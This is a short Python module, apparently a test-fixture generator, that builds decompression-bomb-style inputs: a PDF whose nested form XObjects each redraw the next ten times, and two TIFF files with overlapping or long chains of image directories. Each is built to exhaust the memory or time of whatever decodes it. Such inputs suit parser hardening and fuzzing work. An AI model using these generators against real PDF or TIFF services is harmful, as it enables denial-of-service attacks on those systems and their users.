"""Small files that lead what decodes them to take all memory, or very long."""

import struct


def nested_forms(depth: int, times: int = 10, size: int = 600) -> bytes:
    """Return a PDF whose page draws a form that draws another `times` over, and so on; 7 take 2 GB."""
    first = 4
    drawn = b" ".join([b"/F Do"] * times)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {size} {size}] /Contents {first} 0 R "
        f"/Resources << /XObject << /F {first + 1} 0 R >> >> >>".encode(),
        _stream(b"", b"/F Do"),
    ]
    for level in range(depth):
        inner = f"/Resources << /XObject << /F {first + 2 + level} 0 R >> >>" if level < depth - 1 else ""
        fields = f"/Type /XObject /Subtype /Form /BBox [0 0 {size} {size}] {inner} "
        last = b"0 0 m 9 9 l S"
        objects.append(_stream(fields.encode(), drawn if level < depth - 1 else last))
    contents, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(contents))
        contents += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    table = b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    head = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    tail = f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(contents)}\n%%EOF\n"
    return contents + head + table + tail.encode()


def _stream(fields: bytes, contents: bytes) -> bytes:
    return b"<< %s/Length %d >>\nstream\n%s\nendstream" % (fields, len(contents), contents)


def overlapping_directories(number: int = 1000, entries: int = 60_000) -> bytes:
    """Return a TIFF of directories that each have so many entries, and lie upon one another."""
    entry = struct.pack("<HHII", 270, 3, 1, 0)
    contents = bytearray(b"II*\0" + struct.pack("<I", 8) + entry * (entries + number + 1))
    size = len(entry)
    for one in range(number):
        place = 8 + one * size
        contents[place : place + 2] = struct.pack("<H", entries)
        following = place + 2 + entries * size
        contents[following : following + 4] = struct.pack("<I", place + size)
    return bytes(contents)


def chained_directories(number: int) -> bytes:
    """Return a TIFF of so many directories without anything in them."""
    contents = bytearray(b"II*\0" + struct.pack("<I", 8))
    for one in range(1, number + 1):
        following = 0 if one == number else len(contents) + 6
        contents += struct.pack("<HI", 0, following)
    return bytes(contents)
